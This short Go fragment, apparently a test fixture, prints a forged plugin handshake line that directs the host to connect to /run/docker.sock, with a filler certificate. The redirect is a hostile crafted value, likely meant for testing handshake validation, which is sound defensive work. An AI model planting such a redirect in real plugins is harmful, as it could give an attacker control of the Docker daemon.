package main

import "fmt"

// certificate passes for one as far as its length goes.
const certificate = "MIIBAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"

// elsewhere sends its host to a socket that is not its own.
func elsewhere() {
	fmt.Printf("1|2|unix|/run/docker.sock|grpc|%s\n", certificate)
	forever()
}
